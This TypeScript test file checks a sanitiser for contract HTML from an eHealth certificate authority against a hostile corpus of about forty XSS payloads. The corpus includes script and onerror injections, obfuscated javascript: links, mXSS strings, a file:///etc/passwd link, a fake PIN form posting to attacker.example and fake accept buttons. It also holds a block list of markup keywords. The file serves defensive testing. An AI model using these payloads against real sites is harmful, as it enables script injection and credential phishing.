// The authority's contract HTML, cleaned once for both faces. A hostile corpus (what an attacker
// answering as the authority could send) leaves nothing outside the allow-list, as judged by an
// oracle we did not write: Python's html.parser, which also checks that every element is closed
// where it was opened (so a contract cannot close our container and draw next to our buttons).
// Ordinary eHealth-like contracts survive as they were, and read as the expected lines in a terminal.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { contractLines, contractToAccept, sanitiseContractHtml } from '../../../src/procedures/contractHtml';

/** Python's html.parser over each document: the elements, attributes and links outside the allow-list, and unbalanced tags. */
const ORACLE = String.raw`
import json, sys
from html.parser import HTMLParser
from urllib.parse import urlsplit

ALLOWED = {'p', 'br', 'b', 'strong', 'i', 'em', 'u', 'ul', 'ol', 'li', 'h1', 'h2', 'h3', 'h4', 'table', 'caption',
           'thead', 'tbody', 'tfoot', 'tr', 'th', 'td', 'a', 'span', 'div'}

class Check(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self.open = [], []
    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.problems.append('element ' + tag)
        attributes = dict(attrs)
        if tag == 'a':
            scheme = urlsplit(attributes.get('href') or '').scheme
            if scheme not in ('https', 'mailto') or attributes.get('target') != '_blank' or attributes.get('rel') != 'noopener noreferrer':
                self.problems.append('link ' + repr(attrs))
            attributes = {name: value for name, value in attributes.items() if name not in ('href', 'target', 'rel')}
        for name in attributes:
            self.problems.append('attribute %s on %s' % (name, tag))
        if tag != 'br':
            self.open.append(tag)
    def handle_startendtag(self, tag, attrs):
        if tag != 'br':
            self.problems.append('self-closed ' + tag)
        self.handle_starttag(tag, attrs)
    def handle_endtag(self, tag):
        if not self.open or self.open[-1] != tag:
            self.problems.append('unbalanced </%s> in %s' % (tag, self.open))
        else:
            self.open.pop()
    def handle_comment(self, data): self.problems.append('comment')
    def handle_decl(self, decl): self.problems.append('declaration')
    def handle_pi(self, data): self.problems.append('processing instruction')
    def unknown_decl(self, data): self.problems.append('declaration')

def problems(document):
    check = Check()
    check.feed(document)
    check.close()
    return check.problems + ['unclosed ' + tag for tag in check.open]

print(json.dumps([problems(document) for document in json.load(sys.stdin)]))
`;

function oracle(documents: string[]): string[][] {
  return JSON.parse(execFileSync('/usr/bin/python3', ['-c', ORACLE], { input: JSON.stringify(documents), encoding: 'utf8' }));
}

const ALERT = 'alert(1)';
/** What an attacker answering as the authority could send; none of it may reach a face as markup. */
const HOSTILE: Record<string, string> = {
  'script element': `<p>Article 1</p><script>${ALERT}</script>`,
  'script from elsewhere': '<SCRIPT SRC=//attacker.example/x.js></SCRIPT><p>Article 1</p>',
  'image with onerror': `<img src=x onerror=${ALERT}>`,
  'event handlers': `<p onclick="${ALERT}" onmouseover=${ALERT} ONFOCUS='${ALERT}' tabindex=0>Article 1</p>`,
  'javascript: link': `<a href="javascript:${ALERT}">conditions</a>`,
  'javascript: link, mixed case and spaces': `<a href=" JaVaScRiPt:${ALERT}">conditions</a>`,
  'javascript: link behind a tab': `<a href="java&#x09;script:${ALERT}">conditions</a>`,
  'javascript: link in entities': `<a href="&#106;&#x61;vascript&#x3A;${ALERT}">conditions</a>`,
  'vbscript: link': '<a href="vbscript:msgbox(1)">conditions</a>',
  'data: link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">annex</a>',
  'protocol-relative link': '<a href="//attacker.example/">annex</a>',
  'relative link': '<a href="/CertRa/v2">annex</a>',
  'file: link': '<a href="file:///etc/passwd">annex</a>',
  'plain http link': '<a href="http://attacker.example/">annex</a>',
  iframe: '<iframe src="https://attacker.example/"></iframe>',
  'iframe srcdoc': `<iframe srcdoc="<script>${ALERT}</script>"></iframe>`,
  'object and embed': '<object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x.swf">',
  form: '<form action="https://attacker.example/" method="post"><input name="pin" type="password"><textarea>PIN</textarea><select><option>1</option></select><button>Send</button></form>',
  'style attribute with expression': `<p style="width: expression(${ALERT})">Article 1</p>`,
  'style attribute with a javascript: url': `<div style="background:url(javascript:${ALERT})">Article 1</div>`,
  'style element': "<style>@import 'https://attacker.example/x.css'; body { display: none }</style><p>Article 1</p>",
  'link and meta and base': '<link rel="stylesheet" href="https://attacker.example/x.css"><meta http-equiv="refresh" content="0;url=https://attacker.example/"><base href="https://attacker.example/">',
  'svg with script': `<svg onload="${ALERT}"><script>${ALERT}</script><a href="javascript:${ALERT}"><text>click</text></a></svg>`,
  'math mXSS': `<math><mtext><table><mglyph><style><img src=x onerror=${ALERT}>`,
  'noscript mXSS': `<noscript><p title="</noscript><img src=x onerror=${ALERT}>">`,
  template: `<template><script>${ALERT}</script></template>`,
  'unclosed tags': '<p><b><i>Article 1<ul><li>one<li>two',
  'closing our container': '</div></section></main><footer><button id="accept">Accept</button></footer>',
  'tag split by a tag': `<scr<script>ipt>${ALERT}</script>`,
  'doubled brackets': `<<script>script>${ALERT}<</script>/script>`,
  'tag inside a tag': `<p <img src=x onerror=${ALERT}>>Article 1</p>`,
  'comment and CDATA': `<!-- <script>${ALERT}</script> --><![CDATA[<script>${ALERT}</script>]]><p>Article 1</p>`,
  'escaped markup stays text': `<p>&lt;script&gt;${ALERT}&lt;/script&gt;</p>`,
  'fake accept button': `<button id="accept" class="primary" onclick="${ALERT}">I accept</button>`,
  'fake accept input': '<input type="submit" id="accept" value="I accept">',
  'element taking our button\'s id': '<p id="accept" class="primary">Terms of use</p>',
  'link dressed as our button': '<a href="https://example.org/accept" id="accept" class="primary" style="display:block">I accept</a>',
  'deep nesting': `${'<div>'.repeat(2000)}Article 1${'</div>'.repeat(2000)}`,
  'full document': `<!DOCTYPE html><html><head><title>Contract</title><script>${ALERT}</script></head><body onload="${ALERT}"><p>Article 1</p></body></html>`,
};

/** Words that live only in the corpus's markup, never in its text. */
const MARKUP_ONLY = ['<script', '<img', '<iframe', '<object', '<embed', '<form', '<input', '<button', '<textarea', '<select', '<style', '<svg', '<math', '<link', '<meta', '<base', 'onerror', 'onclick', 'onload', 'onmouseover', 'onfocus', 'style=', 'id=', 'class=', 'javascript', 'vbscript', 'data:', 'expression(', 'attacker.example', 'file:', 'srcdoc', 'tabindex'];

describe('contract HTML: sanitised once, with an allow-list', () => {
  const names = Object.keys(HOSTILE);
  const cleaned = names.map((name) => sanitiseContractHtml(HOSTILE[name]));

  it('the oracle flags every hostile contract as it arrives (what the webview showed before)', () => {
    const found = oracle(names.map((name) => HOSTILE[name]));
    const unflagged = names.filter((name, index) => !found[index].length && !['escaped markup stays text', 'deep nesting'].includes(name));
    assert.deepEqual(unflagged, []);
  });

  it('leaves no element, attribute or link outside the allow-list, and no tag unbalanced (Python html.parser)', () => {
    const found = oracle(cleaned);
    assert.deepEqual(
      Object.fromEntries(names.map((name, index) => [name, found[index]]).filter(([, problems]) => problems.length)),
      {},
    );
  });

  for (const [index, name] of names.entries()) {
    it(`${name}: no trace of its markup`, () => {
      const html = cleaned[index].toLowerCase();
      assert.deepEqual(MARKUP_ONLY.filter((word) => html.includes(word)), [], cleaned[index]);
      // Code is dropped, not shown; what a broken tag leaves is text, escaped.
      if (!['escaped markup stays text', 'tag split by a tag'].includes(name)) assert.ok(!cleaned[index].includes(ALERT), cleaned[index]);
    });
  }

  it('keeps the text of what it removes, except code, controls and metadata', () => {
    assert.equal(sanitiseContractHtml(HOSTILE['javascript: link']), '<span>conditions</span>');
    assert.equal(sanitiseContractHtml(HOSTILE['event handlers']), '<p>Article 1</p>');
    assert.equal(sanitiseContractHtml(HOSTILE['element taking our button\'s id']), '<p>Terms of use</p>');
    // An https link stays a link (whose it is cannot be told), but neither our button's id nor its looks.
    assert.equal(sanitiseContractHtml(HOSTILE['link dressed as our button']), '<a href="https://example.org/accept" target="_blank" rel="noopener noreferrer">I accept</a>');
    assert.equal(sanitiseContractHtml(HOSTILE['escaped markup stays text']), `<p>&lt;script&gt;${ALERT}&lt;/script&gt;</p>`);
    assert.equal(sanitiseContractHtml(HOSTILE['full document']), '<p>Article 1</p>');
    assert.equal(sanitiseContractHtml(HOSTILE['tag split by a tag']), `ipt&gt;${ALERT}`);
    assert.equal(sanitiseContractHtml(HOSTILE['fake accept button']), '');
    assert.equal(sanitiseContractHtml(HOSTILE.form), '');
  });
});

/** As eHealth writes its contracts: headings, paragraphs, bold, nested lists, links, a table, entities. */
const ORDINARY = [
  '<h1>Conditions d’utilisation</h1>',
  '<p>Je soussigné, <b>Jean Dupont</b>, demande un certificat <i>eHealth</i> pour <strong>CN=SSIN\\=79021802145, OU=eHealth-platform Belgium</strong>.</p>',
  '<ol><li>Le certificat est <em>personnel</em>.</li><li>Je m’engage :<ul><li>à protéger\n   le mot de passe ;</li><li><p>à révoquer le certificat <u>compromis</u>.</p></li></ul></li></ol>',
  '<p>Voir <a href="https://www.ehealth.fgov.be/fr/conditions">les conditions</a> ou écrire à <a href="mailto:support@ehealth.fgov.be">support@ehealth.fgov.be</a>.<br>Merci.</p>',
  '<table><caption>Titulaire</caption><thead><tr><th>Nom</th><th>NISS</th></tr></thead><tbody><tr><td>Dupont</td><td>79021802145</td></tr></tbody></table>',
  '<div><span>Texte&nbsp;insécable &amp; &lt;sûr&gt; &quot;cité&quot;</span></div>',
].join('');

describe('contract HTML: an ordinary contract', () => {
  it('survives as written; links open outside, without referrer', () => {
    const expected = ORDINARY.replace('<br>', '<br />')
      .replace('&nbsp;', '\u00a0')
      .replace('&quot;cité&quot;', '"cité"')
      .replace(/<a href="([^"]+)">/g, '<a href="$1" target="_blank" rel="noopener noreferrer">');
    assert.equal(sanitiseContractHtml(ORDINARY), expected);
    assert.deepEqual(oracle([sanitiseContractHtml(ORDINARY)]), [[]]);
  });

  it('reads as lines on a terminal: paragraphs, list items, table rows, links with their address', () => {
    assert.deepEqual(contractLines(sanitiseContractHtml(ORDINARY)), [
      'Conditions d’utilisation',
      'Je soussigné, Jean Dupont, demande un certificat eHealth pour CN=SSIN\\=79021802145, OU=eHealth-platform Belgium.',
      '- Le certificat est personnel.',
      '- Je m’engage :',
      '  - à protéger le mot de passe ;',
      '  - à révoquer le certificat compromis.',
      'Voir les conditions (https://www.ehealth.fgov.be/fr/conditions) ou écrire à support@ehealth.fgov.be.',
      'Merci.',
      'Titulaire',
      'Nom | NISS',
      'Dupont | 79021802145',
      'Texte insécable & <sûr> "cité"',
    ]);
  });

  it('a hostile contract reads as its text only, control characters shown, not obeyed', () => {
    const html = `<p>Article&#x1b;[2J 1\u202e</p><script>${ALERT}</script><ul><li><a href="javascript:${ALERT}">Conditions</a></li><li></li></ul><p>Fin<br>&#7;</p>`;
    assert.deepEqual(contractLines(sanitiseContractHtml(html)), ['Article\\x1b[2J 1\\u202e', '- Conditions', 'Fin', '\\x07']);
  });

  it('contractToAccept: our words (kind, environment, DN) beside the authority\'s texts, cleaned', () => {
    const contract = { dn: 'CN=x', signer: { ssin: '79021802145', firstNames: ['Jean'], name: 'Dupont' }, xml: '<Contract/>', texts: [{ lang: 'fr', value: `<p onclick="${ALERT}">Article 1</p>` }, { lang: 'nl', value: '<p>Artikel 1</p>' }] };
    assert.deepEqual(contractToAccept('revocation', 'acceptance', contract as never), {
      kind: 'revocation',
      environment: 'acceptance',
      dn: 'CN=x',
      texts: [
        { lang: 'fr', html: '<p>Article 1</p>' },
        { lang: 'nl', html: '<p>Artikel 1</p>' },
      ],
    });
  });
});
